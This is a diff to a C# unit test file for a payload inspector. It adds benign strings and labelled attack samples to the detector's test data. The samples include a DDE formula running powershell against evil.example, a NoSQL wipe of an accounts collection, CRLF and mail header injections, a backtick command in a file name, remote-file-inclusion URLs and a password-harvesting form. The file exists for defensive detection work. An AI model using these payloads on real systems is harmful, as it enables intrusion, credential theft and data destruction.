@@ -137,6 +137,11 @@ public sealed class PayloadInspectorTests
         "Rule 10b-5(b) & (c) of the Exchange Act",
         "{code}\n2025-01-02 03:04:05,678 WARN retrying\n{code}",
         "Shipping notes\nid card needed at pickup",
+        "{{< youtube id=\"w7Ft2ymGmfc\" title=\"Launch\" >}}",
+        "Dear {{ customer.first_name | capitalize | default: \"friend\" }}, your order ships {{ order.ship_date | date: \"%A, %B %-d\" }}.",
+        "{\"or\":[{\"<\":[{\"var\":\"age\"},18]},{\"==\":[{\"var\":\"country\"},\"US\"]}]}",
+        "proxy:\n  X-Request-Source: mobile\n  Authorization: none",
+        "Clicking \"Create view\" in the dashboard editor does nothing for role 'Reader'.",
     ];
 
     public static TheoryData<string, InspectionCategory> Attacks() => new()
@@ -284,6 +289,16 @@ public sealed class PayloadInspectorTests
         { "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil.example/a.sql'", InspectionCategory.Code },
         { "AAEAAAD/////AQAAAAAAAAAMAgAAAFdTeXN0ZW0u", InspectionCategory.Code },
         { "!ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection", InspectionCategory.Code },
+        { "=DDEAUTO(\"powershell\";\"-c iwr evil.example\";\"a\")", InspectionCategory.Code },
+        { "db.getCollection(\"accounts\").remove({})", InspectionCategory.Nosqli },
+        { "Hi\u2028Set-Cookie: role=admin", InspectionCategory.Crlf },
+        { "backup_`whoami`.tar", InspectionCategory.Cmdi },
+        { "http://files.example.net/lib/loader.php?cfg=", InspectionCategory.Rfi },
+        { "<form action=//collect.example/p><input type=password name=pw></form>", InspectionCategory.Xss },
+        { "ftp://files.example.net/inc/config.php", InspectionCategory.Rfi },
+        { "template=https://files.example.net/t/main.php", InspectionCategory.Rfi },
+        { "ops@example.com\nRCPT TO:<list@example.net>", InspectionCategory.Crlf },
+        { "Jo\u560aBcc: all@example.org", InspectionCategory.Crlf },
     };
 
     [Theory]
